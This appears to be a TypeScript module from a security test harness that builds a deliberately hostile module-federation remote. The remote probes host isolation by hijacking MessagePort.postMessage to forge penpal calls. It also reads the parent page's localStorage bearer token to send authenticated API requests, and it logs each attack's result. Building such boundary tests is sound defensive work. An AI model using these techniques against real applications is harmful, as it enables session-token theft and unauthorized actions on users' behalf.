import type { Attack, CallOutcome, Means } from '../attack';
import type { CollectorPlaces } from '../site/collector';

interface CodeSettings extends CollectorPlaces {
  readonly container: string;
}

/** Runs in a browser, as the entry of the remote: a federation container that exposes one component. */
function startContainer(
  { container, origin, connectOrigins, udpPorts }: CodeSettings,
  attacks: Readonly<Record<string, (means: Means) => unknown>>,
): void {
  // Without the boundary an attack that works ends by itself, so a busy machine may take long.
  const TIME_LIMITS_MS: Readonly<Record<string, number>> = { off: 12_000 };
  const TIME_LIMIT_MS = 2_500;

  // The channel to the page uses one port, which its next message gives away.
  const { postMessage } = MessagePort.prototype;
  let isSeen = false;
  const seenPort = new Promise<MessagePort>((resolve) => {
    MessagePort.prototype.postMessage = function post(this: MessagePort, ...args: unknown[]) {
      if ((args[0] as { namespace?: string } | undefined)?.namespace === 'penpal') {
        isSeen = true;
        resolve(this);
      }
      Reflect.apply(postMessage, this, args);
    };
  });
  const callHost: Means['callHost'] = async (methodPath, ...args) => {
    if (!isSeen) document.title += '.';
    const port = await seenPort;
    const id = crypto.randomUUID();
    return new Promise((resolve, reject) => {
      const handleReply = ({ data }: MessageEvent) => {
        if (data?.callId !== id) return;
        port.removeEventListener('message', handleReply);
        if (data.isError) reject(new Error(data.value?.message));
        else resolve(data.value);
      };
      port.addEventListener('message', handleReply);
      Reflect.apply(postMessage, port, [{ namespace: 'penpal', type: 'CALL', id, methodPath, args }]);
    });
  };

  const callDirectly = async (method: string, url: string, body: unknown) => {
    const storage = Reflect.get(window.top ?? window, 'localStorage') as Storage;
    const response = await fetch(url, {
      method,
      headers: { authorization: `Bearer ${storage.getItem('token')}`, 'content-type': 'application/json' },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    });
    return { status: response.status, body: await response.json().catch(() => null) };
  };
  const callApi: Means['callApi'] = async (method, url, more = {}) => {
    const { body, headers = {} } = more as { body?: unknown; headers?: object };
    try {
      const direct = await callDirectly(method, url, body);
      if (direct.status < 400) return direct;
    } catch {
      // The next way is tried.
    }
    return (await callHost(['send'], { method, url, headers, ...more })) as CallOutcome;
  };

  const press = new Promise<void>((resolve) => addEventListener('click', () => resolve(), { once: true }));

  const report = (outcome: object) => console.info(`narthex-attack ${JSON.stringify(outcome)}`);
  const runOne = async (name: string, boundary: string) => {
    let result: unknown;
    try {
      const key = `${boundary}/${name}`;
      const places = { url: `${origin}/hit/${key}`, udpPort: udpPorts[key] ?? 0 };
      const means = { ...places, connectOrigin: connectOrigins[boundary] ?? '', callHost, callApi, press };
      const limit = new Promise((resolve) =>
        setTimeout(resolve, TIME_LIMITS_MS[boundary] ?? TIME_LIMIT_MS, 'no result in time'),
      );
      result = await Promise.race([attacks[name]?.(means), limit]);
    } catch (cause) {
      result = String(cause);
    }
    report({ name, hasSucceeded: result === true, result: JSON.stringify(result)?.slice(0, 300) });
  };
  let hasStarted = false;
  const start = async (search: string) => {
    if (hasStarted) return;
    hasStarted = true;
    const asked = new URLSearchParams(search);
    const boundary = asked.get('as') ?? '';
    report({ name: 'started' });
    await Promise.all((asked.get('run')?.split(',') ?? []).map((name) => runOne(name, boundary)));
    report({ name: 'done' });
  };

  type Shared = Readonly<Record<string, Readonly<Record<string, { get: () => Promise<() => unknown> }>>>>;
  type Package = Readonly<Record<string, (...args: unknown[]) => unknown>>;
  let scope: Shared = {};
  const read = async (name: string) => {
    const [version] = Object.values(scope[name] ?? {});
    return (await version?.get())?.() as Package;
  };
  Reflect.set(window, container, {
    init(shared: Shared) {
      scope = shared;
      Reflect.set(window, 'narthexShared', shared);
    },
    async get() {
      const [react, router] = [await read('react'), await read('react-router-dom')];
      const Hostile = () => {
        const { search } = router['useLocation']?.() as Location;
        react['useEffect']?.(() => void start(search), []);
        return react['createElement']?.('p', { id: 'hostile' }, 'Hostile remote');
      };
      return () => ({ __esModule: true, default: Hostile });
    },
  });
}

/** Returns the text of the only script of the remote. */
export function writeHostileCode(
  attacks: readonly Pick<Attack, 'name' | 'run'>[],
  settings: CodeSettings,
): string {
  const table = attacks.map(({ name, run }) => `${JSON.stringify(name)}: ${String(run)}`);
  const start = `(${String(startContainer)})(${JSON.stringify(settings)}, {\n${table.join(',\n')}\n});`;
  // The compiler of the commands passes functions to a helper that keeps their names.
  return `((__name) => { ${start} })((value) => value);`;
}
